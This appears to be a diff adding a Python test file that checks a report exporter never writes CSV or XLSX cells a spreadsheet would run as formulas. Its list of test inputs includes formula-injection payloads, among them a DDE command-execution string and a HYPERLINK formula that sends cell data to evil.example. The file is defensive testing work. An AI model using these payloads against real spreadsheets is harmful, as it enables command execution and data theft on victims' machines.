@@ -1,0 +1,82 @@
+"""Spreadsheet cells interdict writes never run as formulas (issue 10, item 20: CSV injection).
+
+Property test over cell values: a gap report written as CSV and as XLSX, read
+back by `csv` and by openpyxl, never yields a cell a spreadsheet would
+evaluate, and every other value comes back unchanged.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import tempfile
+from pathlib import Path
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from interdict.gaps import GapReport, write_report
+from interdict.gaps.export import CSV_COLUMNS, NOT_XML
+from interdict.gaps.report import GapQuery, GapRow
+from interdict.textfiles import FORMULA_STARTS, TEXT_MARK, spreadsheet_safe
+
+# Text of any kind (control characters included), biased towards what spreadsheets evaluate.
+CELL = st.text(max_size=30) | st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(FORMULA_STARTS) + ["\x01=", " ="]), st.text(max_size=20))
+ATTACKS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "x;=1+1"]
+
+
+def dangerous(value: str) -> bool:
+    return bool(value) and value[0] in FORMULA_STARTS
+
+
+def report_of(values: list[str]) -> GapReport:
+    """A report whose text cells (id, names, reasons) hold `values`, one row per value."""
+    rows = [GapRow(value, "Person", value, [value, value], ["us"], ["eu"], [], [], "high", value, "high", [], []) for value in values]
+    return GapReport(query=GapQuery(["us"], ["eu"]), rows=rows, notes=[], datasets={}, resolution={})
+
+
+TEXT_COLUMNS = ("cluster_id", "name", "other_names", "confidence_reason")
+
+
+@given(values=st.lists(CELL, min_size=1, max_size=8) | st.just(ATTACKS))
+@settings(max_examples=300, deadline=None, derandomize=True, database=None)
+def test_written_cells_never_evaluate_and_safe_values_round_trip(values: list[str]) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        csv_path, xlsx_path = Path(folder) / "gaps.csv", Path(folder) / "gaps.xlsx"
+        report = report_of(values)
+        write_report(report, csv_path)
+        write_report(report, xlsx_path)
+        with csv_path.open(encoding="utf-8", newline="") as handle:
+            csv_rows = list(csv.DictReader(handle))
+        sheet = load_workbook(xlsx_path)["gaps"]
+        xlsx_rows = [dict(zip(CSV_COLUMNS, row)) for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))] == list(CSV_COLUMNS)
+    assert len(csv_rows) == len(xlsx_rows) == len(values)
+    for value, csv_row, xlsx_row in zip(values, csv_rows, xlsx_rows):
+        for column in TEXT_COLUMNS:
+            written, cell = csv_row[column], xlsx_row[column]
+            text = "" if cell.value is None else str(cell.value)
+            assert not dangerous(written) and not dangerous(text) and cell.data_type != "f", (column, value)
+            expected = value  # other_names holds the second name, which is the value too
+            if not dangerous(expected):
+                assert written == expected
+            else:
+                assert written == TEXT_MARK + expected
+            kept = NOT_XML.sub("", expected)  # XML cannot hold these; the rest must be intact
+            assert text == (kept if not dangerous(kept) else TEXT_MARK + kept)
+
+
+def test_spreadsheet_safe() -> None:
+    assert [spreadsheet_safe(value) for value in ATTACKS] == [TEXT_MARK + value for value in ATTACKS[:-1]] + ["x;=1+1"]
+    assert [spreadsheet_safe(value) for value in ("Ali Khamenei", "", None, 5, "a=b", "'=quoted", "＝1+1")] == ["Ali Khamenei", "", "", "5", "a=b", "'=quoted", "'＝1+1"]
+
+
+def test_csv_data_cells_are_quoted_so_no_separator_can_split_them() -> None:
+    """Excel in many locales splits CSV on `;`: an unquoted `x;=1+1` would become a formula cell."""
+    from interdict.gaps.export import render_csv
+
+    lines = render_csv(report_of(["x;=1+1"])).splitlines()
+    assert lines[0] == ",".join(CSV_COLUMNS)
+    assert lines[1].startswith('"x;=1+1",') and lines[1].endswith('"') and lines[1].count('","') == len(CSV_COLUMNS) - 1
+    assert next(csv.reader(io.StringIO(lines[1])))[1] == "x;=1+1"
